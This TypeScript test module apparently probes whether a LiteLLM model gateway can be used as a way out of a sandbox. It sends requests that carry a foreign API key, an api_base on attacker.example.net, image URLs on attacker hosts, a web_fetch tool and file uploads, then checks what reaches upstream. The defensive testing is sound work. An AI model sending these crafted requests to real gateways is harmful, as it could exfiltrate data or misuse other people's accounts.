import { chat, haiku, type Sent, send } from "../budget/requests.ts";
import { givenSecrets } from "../deployment.ts";
import type { Lab } from "../lab.ts";
import type { Server } from "../server.ts";

const stranger = "sk-ant-api03-stranger-0123456789abcdef";
const word = "FROM-THE-GATEWAY";
const image = (url: string): object => ({
  messages: [
    {
      role: "user",
      content: [
        { type: "text", text: word },
        { type: "image_url", image_url: { url } },
      ],
    },
  ],
});

/**
 * An allowed host with somebody else's account is a way out. LiteLLM takes a request's own key without a word, and keeps
 * it for the requests that follow.
 */
const sent: readonly Sent[] = [
  chat(haiku, word, { api_key: stranger }),
  chat(haiku, word, { api_key: stranger, api_base: "https://attacker.example.net" }),
  chat(haiku, word, { extra_headers: { "x-api-key": stranger } }),
  chat(haiku, word, { headers: { "x-api-key": stranger }, extra_body: { api_key: stranger } }),
  chat(haiku, word, { fallbacks: [{ model: haiku, api_key: stranger }] }),
  chat(haiku, word, { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }),
  chat(haiku, word, image(`https://attacker.example.net/${word}.png`)),
  chat(haiku, word, image(`http://198.51.100.90/${word}.png`)),
  {
    path: "/v1/messages",
    body: { model: haiku, max_tokens: 9, api_key: stranger, messages: [{ role: "user", content: word }] },
  },
  { path: "/anthropic/v1/files", body: { file: word } },
  { path: "/v1/files", body: { file: word } },
  chat(haiku, word),
];

/** The model host as a way out: what arrives there came with the operator's key, and names no other place. */
export const throughModels = async (lab: Lab, server: Server): Promise<readonly string[]> => {
  lab.step(`${sent.length} requests to LiteLLM that would lead elsewhere`);
  const before = (await lab.internet.requests("models")).length;
  const answers = await send(server, ...sent);
  const arrived = (await lab.internet.requests("models")).slice(before);
  const problems = arrived.flatMap(({ path, headers, body }) => [
    ...(JSON.stringify(headers).includes(stranger) || body.includes(stranger)
      ? [`${path} with a stranger's key`]
      : []),
    ...(/attacker|198\.51\.100\.90|web_fetch/.test(body) ? [`${path} leads elsewhere`] : []),
    ...(path === "/v1/messages" ? [] : [`${path} is no question to a model`]),
  ]);
  const last = arrived.at(-1);
  const well =
    answers.at(-1)?.status === 200 && last?.headers["x-api-key"] === givenSecrets.anthropic_api_key;
  return [
    ...new Set(problems.map((each) => `model host: ${each}`)),
    ...(well ? [] : [`a plain question after it: ${JSON.stringify(answers.at(-1))}`]),
  ];
};
